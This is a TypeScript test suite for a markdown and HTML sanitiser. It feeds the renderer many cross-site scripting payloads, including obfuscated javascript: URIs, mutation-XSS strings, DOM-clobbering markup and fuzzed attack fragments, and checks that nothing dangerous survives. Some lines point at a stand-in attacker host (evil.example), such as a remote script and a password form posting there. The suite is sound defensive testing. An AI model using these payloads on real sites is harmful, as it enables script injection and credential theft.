import fc from 'fast-check';
import { countOfPayloads, hostileTexts } from '../../../support/hostile-payloads';
import { dangersIn, fragment } from '../../../support/html';
import {
  publishedAttacks,
  publishedStrings,
  spelledOutAttacks,
} from '../../../support/published-payloads';
import { renderForBuild, renderHtml, renderMarkdown } from '../../../support/markdown';

/** What of a text would do harm in the page, also after the page's HTML is read and parsed again. */
function dangersOf(html: string): string[] {
  const first = fragment(html);
  const second = fragment(first.innerHTML);
  return [...dangersIn(first), ...dangersIn(second)];
}

describe('the check of these tests', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src="x" onerror="alert(1)">',
    '<p style="color: red">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" java&#10;script:alert(1)">a</a>',
    '<a href="data:text/html,x">a</a>',
    '<img src="https://elsewhere.example/a.png">',
    '<img src="/\\elsewhere.example/a.png">',
    '<img src="data:text/html,x">',
    '<svg></svg>',
    '<form></form>',
    '<img name="cookie">',
    '<p class="fixed">a</p>',
  ])('sees the harm in %s', (html) => {
    expect(dangersOf(html)).not.toEqual([]);
  });

  it('sees none in what the renderer makes of a rich text', () => {
    const markdown =
      '## A\n\n> [!NOTE]\n> b[^c] ![d](/images/d.svg)\n\n- [x] e\n\n[f](https://f.example)\n\n[^c]: g';
    expect(dangersOf(renderMarkdown(markdown))).toEqual([]);
  });
});

const SCRIPT_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'javascript\t:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  '&#0000106avascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#1;javascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'vbscript:msgbox(1)',
  'VbScRiPt:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:,alert(1)',
  'blob:https://example.com/1',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
];

describe('an address that runs script or holds a document', () => {
  const places: [string, (address: string) => string][] = [
    ['a link', (address) => `[a](${address})`],
    ['a link in angle brackets', (address) => `[a](<${address}>)`],
    ['a reference', (address) => `[a]\n\n[a]: ${address}`],
    ['an autolink', (address) => `<${address}>`],
    ['raw HTML', (address) => `<a href="${address}">a</a>`],
    ['raw HTML without quotes', (address) => `<a href=${address}>a</a>`],
    ['a quotation', (address) => `<blockquote cite="${address}">a</blockquote>`],
    ['an area', (address) => `<map name="m"><area href="${address}"></map>`],
    [
      'a form',
      (address) => `<form action="${address}"><button formaction="${address}">a</button></form>`,
    ],
    ['SVG', (address) => `<svg><a xlink:href="${address}"><text>a</text></a></svg>`],
    [
      'MathML',
      (address) => `<math><mtext href="${address}" xlink:href="${address}">a</mtext></math>`,
    ],
    [
      'a frame',
      (address) => `<iframe src="${address}" srcdoc="<script>alert(1)</script>"></iframe>`,
    ],
    ['an object', (address) => `<object data="${address}"><embed src="${address}"></object>`],
    ['a refresh', (address) => `<meta http-equiv="refresh" content="0;url=${address}">`],
    ['a base', (address) => `<base href="${address}">`],
  ];

  it.each(places)('goes from %s', (_, write) => {
    const dangers = SCRIPT_ADDRESSES.flatMap((address) =>
      dangersOf(renderMarkdown(write(address))),
    );
    expect(dangers).toEqual([]);
  });

  it('goes from a link, whose words stay', () => {
    const link = fragment(renderMarkdown('[words](javascript:alert(1))')).querySelector('a');
    expect(link).toHaveTextContent('words');
    expect(link).not.toHaveAttribute('href');
  });

  it('goes from a picture, unless it holds a picture', () => {
    const sources = [...SCRIPT_ADDRESSES, 'data:image/png;base64,AAAA', 'data:application/pdf,x'];
    const dangers = sources.flatMap((source) => [
      ...dangersOf(renderMarkdown(`![a](${source})`)),
      ...dangersOf(renderMarkdown(`<img src="${source}" alt="a">`)),
    ]);
    expect(dangers).toEqual([]);
    expect(renderMarkdown('![a](data:image/png;base64,AAAA)')).toContain('data:image/png');
    expect(renderMarkdown('![a](data:application/pdf,x)')).not.toContain('data:');
  });
});

describe('hostile HTML', () => {
  it.each([
    // Script and handlers.
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src="x" OnErRoR="alert(1)">',
    '<img src=x onerror\n=alert(1)>',
    '<body onload=alert(1)><p onclick=alert(1)>a</p>',
    '<details open ontoggle=alert(1)>a</details>',
    '<input autofocus onfocus=alert(1)><select onfocus=alert(1)><textarea onfocus=alert(1)>',
    '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>a</marquee><isindex type=image src=1 onerror=alert(1)>',
    // Looks and layout.
    '<p style="position:fixed;inset:0">a</p><style>*{display:none}</style>',
    '<link rel=stylesheet href=//evil.example/x.css><p class="fixed inset-0">a</p>',
    '<font color=red style=x:expression(alert(1))>a</font>',
    '<table background=//evil.example/x.png><td background="javascript:alert(1)">a</table>',
    // Documents in the document.
    '<iframe src=//evil.example></iframe><frameset><frame src=//evil.example></frameset>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf><applet code=x>',
    '<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">',
    '<form action=//evil.example><input name=password type=password><button>Log in</button></form>',
    '<portal src=//evil.example></portal><dialog open>a</dialog><template><script>1</script></template>',
    // Requests to other origins.
    '<img srcset="//evil.example/a.png 1x" src="/a.png">',
    '<picture><source srcset="//evil.example/a.png"><img src="/a.png"></picture>',
    '<img src="/\\evil.example/a.png"><img src="\\\\evil.example/a.png"><img src="/\t/evil.example/a">',
    '<img src="https:evil.example/a.png"><img src="HTTPS:/evil.example/a.png"><img src="\n//evil.example">',
    '<img lowsrc=//evil.example dynsrc=//evil.example longdesc="javascript:alert(1)">',
    '<input type=image src=//evil.example/a.png>',
    '<a href="/" ping="//evil.example">a</a><a href="/" download target=_top>b</a>',
    '<video poster=//evil.example/a.png></video><track src=//evil.example>',
    // DOM clobbering.
    '<a id=cookie name=cookie>a</a><img name=body id=body src=x>',
    '<form id=x><input id=attributes name=parentNode></form>',
    '<a id=config><a id=config name=url href="clobber:x">b</a></a>',
    '<h2 id="user-content-x" name="getElementById">a</h2><p id=contact>b</p><p id=__next>c</p>',
    // Foreign content and mutation.
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1)/><a id=x><text>a</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x"/></svg>',
    '<svg><style><img src="</style><img src=x onerror=alert(1)//"></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg><foreignObject><p><iframe src=//evil.example></iframe></p></foreignObject></svg>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math href="javascript:alert(1)"><maction actiontype="statusline#http://evil">a</maction></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><script>1',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<select><template><style><!--</style><a rel="--><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>--><!---!><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)>?>',
    '<p title="`><img src=x onerror=alert(1)>">a</p><p title="&quot;><img src=x onerror=alert(1)>">b',
    '<img alt="``onerror=alert(1)" src=x><a title=\'"><script>alert(1)</script>\'>a</a>',
    '<custom-element onclick=alert(1)>a</custom-element><p is="x-a" slot=b part=c>b</p>',
    '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x on\u0000error=alert(1)>',
    // Markdown that hides HTML.
    '[a](</x"onmouseover="alert(1)>) ![a](</x"onerror="alert(1)>)',
    '[a](/x "title\\" onmouseover=\\"alert(1)") ![" onerror="alert(1)](/x.png)',
    '```"onclick="alert(1)\na\n```\n\n```<script>\na\n```',
    '```html title="</span><img src=x onerror=alert(1)>" {1}\n<img src=x onerror=alert(1)>\n```',
    '<pre><code class="language-html"><img src=x onerror=alert(1)>&lt;script&gt;</code></pre>',
    '<button class="copy-code" data-copy onclick=alert(1) formaction="javascript:alert(1)">a</button>',
    '`<script>alert(1)</script>` and <`script>alert(1)</script>`',
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: <script>alert(1)</script>',
    '| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n| - | - |\n| <svg/onload=alert(1)> | a |',
    '> [!NOTE]\n> <script>alert(1)</script><p class="callout" onclick=alert(1)>a</p>',
    '## <img src=x onerror=alert(1)> "onclick=alert(1) x="',
    'https://example.com/"onmouseover="alert(1) www.example.com/\'onclick=\'alert(1)',
  ])('does no harm: %s', (text) => {
    expect(dangersOf(renderMarkdown(text))).toEqual([]);
    expect(dangersOf(renderMarkdown(`Text ${text} text`))).toEqual([]);
    expect(dangersOf(renderForBuild(text))).toEqual([]);
    expect(dangersOf(renderHtml(text))).toEqual([]);
  });
});

describe('what published collections hold, and what is written after them', () => {
  const texts = [...hostileTexts, ...publishedStrings, ...spelledOutAttacks];

  it('is there in its breadth', () => {
    expect(countOfPayloads).toBeGreaterThan(500);
    expect(publishedAttacks.length).toBeGreaterThan(450);
  });

  it.each([
    ['the build', renderForBuild],
    ['the renderer of HTML', renderHtml],
  ])('comes harmless out of %s', (_, render) => {
    // Rendered one by one, because some swallow what follows; read at once, because that is slow.
    expect(dangersOf(texts.map((text) => render(text)).join('\n'))).toEqual([]);
  });
});

describe('any text', () => {
  const pieces = fc.constantFrom(
    ...[
      '<',
      '>',
      '</',
      '/>',
      '"',
      "'",
      '`',
      '=',
      ' ',
      '\n',
      '\n\n',
      '\t',
      '&',
      ';',
      '\\',
      '(',
      ')',
      '[',
      ']',
    ],
    ...[
      'script',
      'style',
      'svg',
      'math',
      'mtext',
      'img',
      'a',
      'b',
      'p',
      'table',
      'td',
      'form',
      'select',
    ],
    ...[
      '<svg>',
      '<math>',
      '<style>',
      '</style>',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<template>',
      '<noscript>',
    ],
    ...[
      ' href=',
      ' src=',
      ' onerror=',
      ' style=',
      ' id=',
      ' name=',
      ' class=',
      ' title=',
      'x',
      '1',
    ],
    ...[
      'javascript:',
      'JAVASCRIPT:',
      '&#x6a;avascript:',
      'data:text/html,',
      'https://e.example',
      '//e',
      '/',
    ],
    ...[
      '# ',
      '> ',
      '- ',
      '1. ',
      '[^1]',
      '[^1]: ',
      '[!NOTE]',
      '![',
      '](',
      '|',
      '|-|',
      '**',
      '~~',
      '```',
      '- [x] ',
    ],
  );
  const texts = fc.oneof(
    fc.array(pieces, { maxLength: 60 }).map((parts) => parts.join('')),
    fc.string({ unit: 'binary', maxLength: 100 }),
  );

  it('comes out harmless, as markdown and as HTML, and comes out at all', () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(dangersOf(renderMarkdown(text))).toEqual([]);
        expect(dangersOf(renderForBuild(text))).toEqual([]);
        expect(dangersOf(renderHtml(text))).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  it('has no id twice, and a target for every link inside the page that the renderer made', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const root = fragment(renderMarkdown(text));
        const ids = [...root.querySelectorAll('[id]')].map(({ id }) => id);
        expect(new Set(ids).size).toBe(ids.length);
        const links = root.querySelectorAll('.heading-anchor, [data-footnote-ref]');
        for (const link of links) expect(ids).toContain(link.getAttribute('href')?.slice(1));
      }),
      { numRuns: 80 },
    );
  });

  it('keeps its elements when it is sanitised once more', () => {
    const elements = (html: string) =>
      [...fragment(html).querySelectorAll('*:not(div, span, .heading-anchor)')].map(
        ({ localName }) => localName,
      );
    fc.assert(
      fc.property(texts, (text) => {
        const once = renderHtml(text);
        expect(elements(renderHtml(once))).toEqual(elements(once));
      }),
      { numRuns: 80 },
    );
  });
});
